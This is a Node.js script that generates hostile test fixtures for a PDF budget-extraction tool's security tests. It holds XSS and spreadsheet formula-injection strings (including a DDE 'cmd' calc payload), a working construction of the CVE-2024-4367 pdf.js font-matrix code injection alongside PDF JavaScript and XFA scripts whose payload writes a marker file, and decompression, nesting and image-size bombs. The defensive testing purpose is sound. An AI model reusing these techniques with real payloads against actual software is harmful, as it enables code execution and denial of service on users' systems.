#!/usr/bin/env node
/**
 * Generates the hostile-input corpus (tests/fixtures/hostile/): files built to attack a parser
 * rather than to be read. tests/security.test.ts runs the CLI over all of them in one batch.
 *
 * Every file here is small and committed; rerun this script only when the corpus must change
 * (the FlateDecode bomb takes ~15 s to compress). Inputs too big to commit (the 100 MB single-line
 * dump, the oversize file, hostile file names) are made at test time by tests/security.test.ts.
 * Needs only the dev dependency pdf-lib; nothing is downloaded.
 *
 *   node scripts/make-hostile.mjs
 *
 * Files:
 *   script-table.pdf       <script>, <img onerror>, =HYPERLINK in table cells and the department
 *                          name; Latin strings in Helvetica, Chinese in STSong-Light (not embedded:
 *                          pdf.js maps it through its bundled CMap files, from disk)
 *   script-table.txt       the same strings in a text dump, department name starting ../../
 *   formula-department.txt a department name and project names a spreadsheet would evaluate
 *   flate-bomb.pdf         7 KB; a content stream FlateDecode'd twice that inflates to 4 GiB
 *   eval-font.pdf          JavaScript /OpenAction, /Names JavaScript, an XFA form script and a
 *                          Type1 font (FontFile) with a FontMatrix built to inject code into
 *                          pdf.js's compiled glyph paths (CVE-2024-4367); every payload writes a
 *                          marker file into the OS temp folder and sets a global
 *   nested-arrays.pdf      100,000 nested arrays in the page dictionary
 *   nested-content.pdf     100,000 nested arrays as a content-stream operand
 *   pages-bomb.pdf         a page tree claiming 10,000,000 pages over one real page
 *   many-pages.pdf         2,001 blank pages, one over the default page budget
 *   huge.png / huge.jpg / huge.tif   headers claiming 100,000 x 100,000 (65,500² for JPEG) pixels
 *   malformed.png          a PNG cut off inside its IHDR chunk
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createDeflate, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';

const root = join(dirname(fileURLToPath(import.meta.url)), '..');
const outDir = join(root, 'tests/fixtures/hostile');

export const SCRIPT = '<script>alert(1)</script>';
export const IMG = '<img src=x onerror=alert(1)>';
export const FORMULA = '=HYPERLINK("http://x","y")';
/** Name of the marker file every code-execution payload tries to create in the OS temp folder. */
export const MARKER = 'budget-extract-pwned';

/**
 * The code an eval path would run: creates the marker file and sets a global. Parentheses are
 * balanced so the payload can sit inside a PDF literal string unescaped.
 */
const PAYLOAD =
  `process.getBuiltinModule('fs').writeFileSync(process.getBuiltinModule('os').tmpdir()+'/${MARKER}','pwned');` +
  `globalThis.__budgetExtractPwned=1`;

// ---- a minimal PDF writer: exact bytes, for structures pdf-lib refuses to build ------------------

/** Objects (bodies of `n 0 obj … endobj`, numbered from 1) → a complete PDF with a valid xref. */
function rawPdf(objects, trailerExtra = '') {
  const head = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');
  const parts = [head];
  const offsets = [];
  let offset = head.length;
  objects.forEach((body, i) => {
    const bytes = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'), Buffer.from('\nendobj\n')]);
    offsets.push(offset);
    parts.push(bytes);
    offset += bytes.length;
  });
  // xref entries are exactly 20 bytes: 10-digit offset, space, 5-digit generation, space, type, EOL.
  const xref = ['xref', `0 ${objects.length + 1}`, '0000000000 65535 f ', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `)].join('\n');
  parts.push(Buffer.from(`${xref}\ntrailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${offset}\n%%EOF\n`));
  return Buffer.concat(parts);
}

function stream(dict, data) {
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream')]);
}

const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

/** Catalog, page tree and one page whose resources name Helvetica /F1 (objects 1-4). */
function onePage(pageExtra = '', contents = '5 0 R') {
  return [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents ${contents} ${pageExtra}>>`,
    HELVETICA,
  ];
}

const text = (s, x = 72, y = 760, size = 12) => `BT /F1 ${size} Tf ${x} ${y} Td (${s}) Tj ET`;

// ---- script-bearing table, pdf-lib ---------------------------------------------------------------

/** STSong-Light, not embedded, UCS-2 encoded (as in scripts/render-pdfs.mjs): Chinese without fontkit. */
function songFont(doc) {
  const ctx = doc.context;
  const descendant = ctx.obj({
    Type: 'Font',
    Subtype: 'CIDFontType0',
    BaseFont: 'STSong-Light',
    CIDSystemInfo: ctx.obj({ Registry: PDFString.of('Adobe'), Ordering: PDFString.of('GB1'), Supplement: 2 }),
  });
  descendant.set(
    PDFName.of('FontDescriptor'),
    ctx.register(
      ctx.obj({ Type: 'FontDescriptor', FontName: 'STSong-Light', Flags: 6, FontBBox: [-25, -254, 1000, 880], ItalicAngle: 0, Ascent: 880, Descent: -120, CapHeight: 880, StemV: 93 }),
    ),
  );
  descendant.set(PDFName.of('DW'), ctx.obj(1000));
  descendant.set(PDFName.of('W'), ctx.obj([1, [...Array(95)].map(() => 500)]));
  return ctx.register(
    ctx.obj({ Type: 'Font', Subtype: 'Type0', BaseFont: 'STSong-Light-UniGB-UCS2-H', Encoding: 'UniGB-UCS2-H', DescendantFonts: [ctx.register(descendant)] }),
  );
}

const ucs2 = (s) => [...s].map((c) => c.charCodeAt(0).toString(16).padStart(4, '0')).join('');
/** A WinAnsi literal string: backslash and parentheses escaped. */
const latin = (s) => s.replace(/[\\()]/g, (c) => `\\${c}`);

/**
 * Text pieces on one baseline, each in the font its characters need: CJK in /F1 (STSong), ASCII
 * in /F2 (Helvetica, 0.5 em per glyph is close enough for placing the next piece).
 */
function mixed(s, x, y, size) {
  const pieces = s.match(/[\x20-\x7e]+|[^\x20-\x7e]+/g) ?? [];
  const ops = [];
  let at = x;
  for (const p of pieces) {
    const ascii = /^[\x20-\x7e]/.test(p);
    ops.push(ascii ? `BT /F2 ${size} Tf ${at} ${y} Td (${latin(p)}) Tj ET` : `BT /F1 ${size} Tf ${at} ${y} Td <${ucs2(p)}> Tj ET`);
    at += (ascii ? 0.55 : 1) * size * p.length;
  }
  return ops.join('\n');
}

async function scriptTablePdf() {
  const doc = await PDFDocument.create();
  const helvetica = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595.28, 841.89]);
  page.node.setFontDictionary(PDFName.of('F1'), songFont(doc));
  page.node.setFontDictionary(PDFName.of('F2'), helvetica.ref);
  const ops = [
    mixed('新乡市测试局2025年部门预算公开', 150, 790, 16),
    mixed(`部门名称：${SCRIPT}`, 50, 750, 11),
    mixed('2025年部门支出预算表', 200, 700, 14),
    mixed('单位：万元', 470, 680, 9),
  ];
  const xs = [50, 120, 330, 400, 470, 540];
  const rows = [
    ['科目编码', '科目名称', '合计', '基本支出', '项目支出'],
    ['', '合计', '6.00', '3.00', '3.00'],
    ['2010101', SCRIPT, '1.00', '1.00', ''],
    ['2010102', IMG, '2.00', '1.00', '1.00'],
    ['2010103', FORMULA, '3.00', '1.00', '2.00'],
  ];
  const top = 670;
  const rowHeight = 22;
  rows.forEach((row, r) => {
    row.forEach((cell, c) => {
      if (cell) ops.push(mixed(cell, xs[c] + 4, top - r * rowHeight - 15, 8));
    });
  });
  // The grid: horizontal and vertical rules, 0.5 pt.
  const bottom = top - rows.length * rowHeight;
  ops.push('0.5 w');
  for (let r = 0; r <= rows.length; r++) ops.push(`${xs[0]} ${top - r * rowHeight} m ${xs[xs.length - 1]} ${top - r * rowHeight} l S`);
  for (const x of xs) ops.push(`${x} ${top} m ${x} ${bottom} l S`);
  page.node.set(PDFName.of('Contents'), doc.context.register(doc.context.flateStream(ops.join('\n'))));
  return doc.save({ useObjectStreams: false });
}

// ---- text dumps ------------------------------------------------------------------------------------

function scriptTableTxt() {
  return [
    '新乡市测试局2025年部门预算公开',
    '',
    `部门名称：../../${SCRIPT}`,
    '',
    '2025年部门支出预算表',
    '单位：万元',
    '科目编码\t科目名称\t合计\t基本支出\t项目支出',
    '\t合计\t6.00\t3.00\t3.00',
    `2010101\t${SCRIPT}\t1.00\t1.00\t`,
    `2010102\t${IMG}\t2.00\t1.00\t1.00`,
    `2010103\t${FORMULA}\t3.00\t1.00\t2.00`,
    '',
  ].join('\n');
}

function formulaDepartmentTxt() {
  return [
    '新乡市测试局2025年部门预算公开',
    '',
    "部门名称：@SUM(1+1)*cmd|'/Ccalc'!A0",
    '',
    '2025年部门支出预算表',
    '单位：万元',
    '科目编码\t科目名称\t合计\t基本支出\t项目支出',
    '\t合计\t6.00\t3.00\t3.00',
    `2010101\t${FORMULA}\t1.00\t1.00\t`,
    '2010102\t+1+1\t2.00\t1.00\t1.00',
    '2010103\t-1+1\t3.00\t1.00\t2.00',
    '',
    '2025年项目支出预算表',
    '单位：万元',
    '项目名称\t合计',
    "@SUM(1+1)*cmd|'/Ccalc'!A0\t1.00",
    '=1+1\t2.00',
    '合计\t3.00',
    '',
  ].join('\n');
}

// ---- FlateDecode bomb ----------------------------------------------------------------------------

/** Bytes of spaces (pdf.js's lexer skips them, so only the inflating costs) the bomb inflates to. */
const BOMB_BYTES = 4 * 1024 ** 3;

async function deflateSpaces(total) {
  const chunk = Buffer.alloc(64 * 1024 ** 2, 0x20);
  const deflate = createDeflate({ level: 9 });
  const parts = [];
  deflate.on('data', (c) => parts.push(c));
  const done = new Promise((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  for (let left = total; left > 0; left -= chunk.length) {
    if (!deflate.write(left >= chunk.length ? chunk : chunk.subarray(0, left))) await new Promise((r) => deflate.once('drain', r));
  }
  deflate.end();
  await done;
  return Buffer.concat(parts);
}

async function flateBombPdf() {
  // Deflate caps out near 1:1030; deflating the deflated spaces again shrinks 4 MB to ~7 KB.
  const twice = deflateSync(await deflateSpaces(BOMB_BYTES), { level: 9 });
  return rawPdf([
    ...onePage('', '[5 0 R 6 0 R]'),
    stream('', Buffer.from(text('Budget 2025'))),
    stream('/Filter [/FlateDecode /FlateDecode]', twice),
  ]);
}

// ---- code-execution attempts ---------------------------------------------------------------------

/** Adobe Type 1 encryption (eexec r=55665, charstrings r=4330), with `lenIV` leading bytes. */
function type1Encrypt(plain, r0, lenIV = 4) {
  const input = Buffer.concat([Buffer.alloc(lenIV, 0), plain]);
  const out = Buffer.alloc(input.length);
  let r = r0;
  for (let i = 0; i < input.length; i++) {
    const c = input[i] ^ (r >> 8);
    out[i] = c;
    r = ((c + r) * 52845 + 22719) & 0xffff;
  }
  return out;
}

/** The Type 1 integers used below (-1131…1131), as charstring bytes. */
function csNumber(v) {
  if (v >= -107 && v <= 107) return [v + 139];
  if (v >= 108 && v <= 1131) return [((v - 108) >> 8) + 247, (v - 108) & 0xff];
  return [((-v - 108) >> 8) + 251, (-v - 108) & 0xff];
}

const HSBW = 13;
const ENDCHAR = 14;
const RMOVETO = 21;
const HLINETO = 6;
const VLINETO = 7;
const CLOSEPATH = 9;

/** The FontMatrix of CVE-2024-4367: a string where numbers belong, closing the generated call. */
const HOSTILE_FONT_MATRIX = `[0.001 0 0 0.001 0 (0\\); ${PAYLOAD}//)]`;

/** A Type 1 font program: `A` is a filled box; its cleartext carries the hostile FontMatrix. */
function type1Font() {
  const charstring = (ops) => type1Encrypt(Buffer.from(ops.flat()), 4330);
  const notdef = charstring([csNumber(0), csNumber(500), HSBW, ENDCHAR]);
  const box = charstring([
    csNumber(0), csNumber(500), HSBW,
    csNumber(100), csNumber(0), RMOVETO,
    csNumber(300), HLINETO, csNumber(500), VLINETO, csNumber(-300), HLINETO, CLOSEPATH,
    ENDCHAR,
  ]);
  const clear = Buffer.from(
    [
      '%!PS-AdobeFont-1.0: Hostile 001',
      '12 dict begin',
      '/FontInfo 2 dict dup begin /FullName (Hostile) readonly def end readonly def',
      '/FontName /Hostile def',
      '/PaintType 0 def',
      '/FontType 1 def',
      `/FontMatrix ${HOSTILE_FONT_MATRIX} readonly def`,
      '/Encoding StandardEncoding def',
      '/FontBBox {0 0 1000 1000} readonly def',
      'currentdict end',
      'currentfile eexec',
      '',
    ].join('\n'),
    'latin1',
  );
  const priv = Buffer.concat([
    Buffer.from(
      [
        'dup /Private 8 dict dup begin',
        '/RD{string currentfile exch readstring pop}executeonly def',
        '/ND{noaccess def}executeonly def',
        '/NP{noaccess put}executeonly def',
        '/lenIV 4 def',
        '/BlueValues [] def',
        '/MinFeature {16 16} def',
        '/password 5839 def',
        '/Subrs 0 array',
        'ND',
        '2 index /CharStrings 2 dict dup begin',
        `/.notdef ${notdef.length} RD `,
      ].join('\n'),
      'latin1',
    ),
    notdef,
    Buffer.from(` ND\n/A ${box.length} RD `, 'latin1'),
    box,
    Buffer.from(' ND\nend\nend\nreadonly put\nnoaccess put\ndup /FontName get exch definefont pop\nmark currentfile closefile\n', 'latin1'),
  ]);
  const encrypted = type1Encrypt(priv, 55665);
  const trailer = Buffer.from(`${'0'.repeat(64)}\n`.repeat(8) + 'cleartomark\n', 'latin1');
  return { data: Buffer.concat([clear, encrypted, trailer]), lengths: [clear.length, encrypted.length, trailer.length] };
}

function evalFontPdf() {
  const font = type1Font();
  const xfa = Buffer.from(
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">' +
      `<subform name="form1"><event activity="initialize"><script contentType="application/x-javascript">${PAYLOAD}</script></event></subform>` +
      '</template></xdp:xdp>',
  );
  return rawPdf([
    // 1: catalog with every place a PDF can carry document JavaScript, and an XFA form.
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R /Names << /JavaScript << /Names [(init) 9 0 R] >> >> ' +
      '/AcroForm << /Fields [] /XFA 10 0 R /NeedsRendering true >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R /F2 6 0 R >> >> /Contents 5 0 R ' +
      '/AA << /O 9 0 R >> >>',
    HELVETICA,
    stream('', Buffer.from(`${text('Budget 2025')}\nBT /F2 24 Tf 72 700 Td (AAAA) Tj ET`)),
    // 6: the hostile Type 1 font; the dictionary repeats the matrix, as in the published exploit.
    `<< /Type /Font /Subtype /Type1 /BaseFont /Hostile /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor 7 0 R ` +
      `/FontMatrix ${HOSTILE_FONT_MATRIX} >>`,
    '<< /Type /FontDescriptor /FontName /Hostile /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 1000 /Descent 0 ' +
      '/CapHeight 1000 /StemV 80 /FontFile 8 0 R >>',
    stream(`/Length1 ${font.lengths[0]} /Length2 ${font.lengths[1]} /Length3 ${font.lengths[2]}`, font.data),
    `<< /Type /Action /S /JavaScript /JS (${PAYLOAD}) >>`,
    stream('', xfa),
  ]);
}

// ---- structure bombs -----------------------------------------------------------------------------

const NESTING = 100_000;
const nested = () => '['.repeat(NESTING) + ']'.repeat(NESTING);

function nestedArraysPdf() {
  return rawPdf([...onePage(`/Hostile ${nested()} `), stream('', Buffer.from(text('Budget 2025')))]);
}

function nestedContentPdf() {
  const content = Buffer.from(`${text('Budget 2025')}\n${nested()} pop\n${text('after', 72, 700)}`);
  return rawPdf([...onePage(), stream('/Filter /FlateDecode', deflateSync(content))]);
}

/** More real pages than the default budget (DEFAULT_MAX_PAGES = 2000), blank, in object streams. */
async function manyPagesPdf() {
  const doc = await PDFDocument.create();
  for (let i = 0; i < 2001; i++) doc.addPage([200, 200]);
  return doc.save({ useObjectStreams: true });
}

/** A page tree whose /Count claims 10,000,000 pages over one real page (pdf.js recounts such a tree). */
function pagesBombPdf() {
  const objects = onePage();
  objects[1] = '<< /Type /Pages /Kids [3 0 R] /Count 10000000 >>';
  return rawPdf([...objects, stream('', Buffer.from(text('Budget 2025')))]);
}

// ---- image headers -------------------------------------------------------------------------------

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(bytes) {
  let c = 0xffffffff;
  for (const b of bytes) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function pngChunk(type, data) {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])));
  return Buffer.concat([head, data, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function hugePng() {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(100_000, 0);
  ihdr.writeUInt32BE(100_000, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 6; // RGBA
  // The first row of pixels, then the file simply ends: a decoder would allocate 40 GB first.
  const idat = deflateSync(Buffer.alloc(1 + 4 * 100_000));
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
}

function malformedPng() {
  return Buffer.concat([PNG_SIGNATURE, Buffer.from([0, 0, 0, 13]), Buffer.from('IHDR'), Buffer.from([0, 0, 1])]);
}

function hugeJpeg() {
  const app0 = Buffer.from([0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
  // SOF0: length 11, precision 8, height, width, 1 component.
  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x0b, 0x08, 0xff, 0xdc, 0xff, 0xdc, 0x01, 0x01, 0x11, 0x00]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), app0, sof, Buffer.from([0xff, 0xd9])]);
}

function hugeTiff() {
  // Little-endian, IFD at 8 with 3 entries: ImageWidth, ImageLength (LONG), BitsPerSample.
  const b = Buffer.alloc(8 + 2 + 3 * 12 + 4);
  b.write('II', 0, 'latin1');
  b.writeUInt16LE(42, 2);
  b.writeUInt32LE(8, 4);
  b.writeUInt16LE(3, 8);
  const entry = (i, tag, type, value) => {
    const at = 10 + i * 12;
    b.writeUInt16LE(tag, at);
    b.writeUInt16LE(type, at + 2);
    b.writeUInt32LE(1, at + 4);
    if (type === 3) b.writeUInt16LE(value, at + 8);
    else b.writeUInt32LE(value, at + 8);
  };
  entry(0, 256, 4, 100_000);
  entry(1, 257, 4, 100_000);
  entry(2, 258, 3, 8);
  b.writeUInt32LE(0, 10 + 3 * 12);
  return b;
}

async function main() {
  mkdirSync(outDir, { recursive: true });
  const files = {
    'script-table.pdf': await scriptTablePdf(),
    'script-table.txt': scriptTableTxt(),
    'formula-department.txt': formulaDepartmentTxt(),
    'eval-font.pdf': evalFontPdf(),
    'nested-arrays.pdf': nestedArraysPdf(),
    'nested-content.pdf': nestedContentPdf(),
    'pages-bomb.pdf': pagesBombPdf(),
    'many-pages.pdf': await manyPagesPdf(),
    'huge.png': hugePng(),
    'huge.jpg': hugeJpeg(),
    'huge.tif': hugeTiff(),
    'malformed.png': malformedPng(),
    'flate-bomb.pdf': await flateBombPdf(),
  };
  for (const [name, data] of Object.entries(files)) {
    writeFileSync(join(outDir, name), data);
    process.stdout.write(`tests/fixtures/hostile/${name} ${(Buffer.byteLength(data) / 1024).toFixed(1)} KB\n`);
  }
}

if (process.argv[1] === fileURLToPath(import.meta.url)) await main();
